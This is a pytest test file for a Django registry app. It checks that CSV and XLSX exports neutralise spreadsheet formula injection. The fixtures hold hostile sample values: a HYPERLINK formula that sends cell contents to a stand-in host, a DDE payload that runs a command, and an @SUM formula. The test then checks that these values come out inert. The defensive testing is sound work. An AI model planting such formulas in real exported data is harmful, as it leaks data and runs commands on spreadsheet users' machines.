"""Exports never hand a spreadsheet a formula (issue 12, item 6): a cooperative name typed in a form
and household addresses that look like formulas come out inert in CSV and as text cells in XLSX."""

import csv
import datetime
import html
import io
import re
import zipfile

import pytest

from entas.accounts.models import User
from entas.enterprises.models import Cooperative
from entas.monitoring import rollups
from entas.monitoring import services as monitoring
from entas.registry.models import Household
from tests.conftest import client_for
from tests.monitoring.factories import indicator
from tests.programmes.factories import KLATEN_VILLAGE, home

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"klik")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


@pytest.fixture
def hostile(klaten_officer: User) -> None:
    first, second = home(), home()
    Household.objects.filter(pk=first.pk).update(address=DDE)
    Household.objects.filter(pk=second.pk).update(address=SUM)
    # Through the page, as an officer would type it.
    response = client_for(klaten_officer).post("/enterprises/cooperatives/new/", {
        "name": HYPERLINK, "type": "savings_loan", "village": KLATEN_VILLAGE, "registration_number": "3310010009"})
    assert response.status_code == 302 and Cooperative.objects.filter(name=HYPERLINK).exists()


def _body(response: object) -> bytes:
    content = getattr(response, "streaming_content", None)
    return b"".join(content) if content is not None else response.content  # type: ignore[attr-defined]


def _xlsx_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}


def _assert_inert_xlsx(data: bytes, *texts: str) -> None:
    parts = _xlsx_parts(data)
    sheets = "".join(text for name, text in parts.items() if name.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets  # no formula anywhere
    assert "<hyperlink" not in sheets
    # Shared strings, or inline strings in constant-memory mode: either way a text cell.
    cells = {html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", sheets + parts.get("xl/sharedStrings.xml", ""))}
    for text in texts:
        assert text in cells, text
    # ... marked as text for Excel, so that editing the cell does not turn it into a formula either.
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_the_registry_csv_export_neutralises_formulas(klaten_officer: User, hostile: None) -> None:
    response = client_for(klaten_officer).get("/registry/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(_body(response).decode())))
    addresses = {row[rows[0].index("address")] for row in rows[1:]}
    assert addresses == {"'" + DDE, "'" + SUM}
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_registry_xlsx_export_writes_text_as_text(klaten_officer: User, hostile: None) -> None:
    response = client_for(klaten_officer).get("/registry/", {"format": "xlsx"})
    assert response.status_code == 200
    data = _body(response)
    _assert_inert_xlsx(data, DDE, SUM)
    sheet = _xlsx_parts(data)["xl/worksheets/sheet1.xml"]
    # Numbers stay numbers (decile, income) and the decile date is a date-formatted number.
    assert re.search(r'<c r="F2"[^>]*><v>1</v></c>', sheet)
    assert re.search(r'<c r="I2"[^>]*><v>350000</v></c>', sheet)
    assert re.search(r'<c r="H2" s="\d+"><v>45869</v></c>', sheet)  # 2025-07-31


def test_the_village_xlsx_writes_a_typed_cooperative_name_as_text(klaten_officer: User, hostile: None) -> None:
    monitoring.open_year(None, 2025)
    indicator()
    rollups.refresh()
    response = client_for(klaten_officer).get(f"/dashboard/{KLATEN_VILLAGE}/", {"period": "2025", "format": "xlsx"})
    assert response.status_code == 200
    _assert_inert_xlsx(_body(response), HYPERLINK)


def test_the_xlsx_writer_types_cells_by_value() -> None:
    from entas.core import sheets

    buffer = io.BytesIO()
    book = sheets.workbook(buffer, in_memory=True)
    sheet = book.add_worksheet("x")
    sheets.write_row(book, sheet, 0, [HYPERLINK, "http://x/", 7, datetime.date(2025, 1, 2), None, "-5"])
    book.close()
    parts = _xlsx_parts(buffer.getvalue())
    row = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in row and "<hyperlink" not in row
    assert '<c r="C1"><v>7</v></c>' in row
    assert re.search(r'<c r="D1" s="\d+"><v>45659</v></c>', row)
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]  # "=…" and "-5" stay text when edited
